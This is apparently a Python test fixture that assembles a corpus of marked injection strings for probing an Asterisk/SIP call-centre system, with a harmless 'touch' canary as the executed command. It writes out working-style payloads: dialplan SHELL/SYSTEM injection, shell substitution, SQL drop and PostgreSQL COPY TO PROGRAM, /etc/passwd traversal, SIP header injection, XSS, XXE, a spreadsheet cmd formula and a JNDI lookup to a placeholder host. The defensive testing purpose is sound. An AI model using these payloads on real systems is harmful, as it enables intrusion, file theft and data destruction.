"""Texts that want to be more than texts: for a shell, a dial plan, SQL, SIP, a terminal, a log, a page, a printf.

Every text holds `MARK`, by which it is found again wherever it has got to.
"""

from pathlib import Path
from typing import Final

MARK: Final = "qj7x"
"""What no other text of a test has."""


def corpus(canary: Path) -> dict[str, str]:
    """All texts by their kind. What is carried out as a command makes the file `canary`."""
    touch = f"touch {canary}"
    long = MARK * 1250
    return {
        "plain": MARK,
        "SHELL": f"{MARK}${{SHELL({touch})}}",
        "SYSTEM": f"{MARK}${{SYSTEM({touch})}}",
        "nested variables": f"{MARK}${{${{EXTEN}}}}${{EVAL(${{SHELL({touch})}})}}",
        "expression": f"{MARK}$[1 + $[1]]",
        "FILE": f"{MARK}${{FILE(/etc/passwd)}}",
        "command substitution": f"{MARK}$({touch})`{touch}`; {touch} | {touch} & {touch}",
        "another destination": f"500{MARK}&PJSIP/trunk/1900&Local/1900@acd-outbound",
        "further arguments": f"{MARK},acd,feature,*51,,put",
        "pipes": f"{MARK}|1|Goto(acd-outbound,1900,1)",
        "semicolons": f"{MARK};tag=x;lr;transport=tcp",
        "CR LF": f"{MARK}\r\nX-Injected: yes\r\nContact: <sip:evil@192.0.2.1>",
        "LF": f"{MARK}\nX-Injected: yes",
        "CR": f"{MARK}\rX-Injected: yes",
        "folded": f"{MARK}\r\n X-Injected: yes",
        "a second message": f"{MARK}\r\n\r\nINVITE sip:7901@127.0.0.1 SIP/2.0\r\n\r\n",
        "escaped CR LF": f"{MARK}%0d%0aX-Injected:%20yes",
        "quotes": f'{MARK}"\'`""\\"',
        "backslashes": f"{MARK}\\\\\\",
        "angle brackets": f'{MARK}" <sip:1900@192.0.2.1>, "x',
        "right to left": f"{MARK}\N{RIGHT-TO-LEFT OVERRIDE}0091\N{POP DIRECTIONAL FORMATTING}\N{ARABIC LETTER ALEF}",
        "invisible": f"{MARK}\N{ZERO WIDTH SPACE}\N{ZERO WIDTH JOINER}\N{SOFT HYPHEN}\N{LINE SEPARATOR}\x85\x0b\x0c",
        "NUL": f"{MARK}\0after",
        "NUL, escaped": f"{MARK}%00after",
        "emoji": f"{MARK}\N{GRINNING FACE}\N{WAVING WHITE FLAG}\N{COMBINING ENCLOSING KEYCAP}",
        "no UTF-8": f"{MARK}\udcff\udcfe\udcc3(\udced\udca0\udc80",
        "5 kB": long,
        "5 kB of quotes": MARK + '"' * 5000,
        "SQL": f"{MARK}'; drop table fact; --",
        "SQL, PostgreSQL": f"{MARK}$$;copy (select 1) to program '{touch}';--",
        "path": f"{MARK}/../../../../etc/passwd",
        "JSON": f'{MARK}","event":"call_ended","x":{{"a":["',
        "JSON escapes": f"{MARK}\\u000a\\u0000\\ud800",
        "terminal": f"{MARK}\x1b[2J\x1b[31m\x1b]0;owned\x07\x9b31m\x08\x08",
        "printf": f"{MARK}%s%n%x%d%99999d%1$n",
        "Python": f"{MARK}{{0.__class__}}{{{{7*7}}}}%(x)s",
        "Prometheus": f'{MARK}",queue="x"}} 1\nacd_forged_total{{a="',
        "HTML": f'{MARK}"><img src=x onerror=alert(1)></script><script>alert(1)</script>',
        "spreadsheet": f"=cmd|' /C calc'!A0{MARK}",
        "LDAP and XML": f'{MARK}*)(uid=*<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "template": f"{MARK}${{jndi:ldap://192.0.2.1/x}}",
        "a log line": f'{MARK}\n{{"event": "call_ended", "call": "forged", "level": "info"}}',
        "an address for fail2ban": f'{MARK}",LocalAddress="IPV4/UDP/127.0.0.1/1",RemoteAddress="IPV4/UDP/192.0.2.99/1',
    }
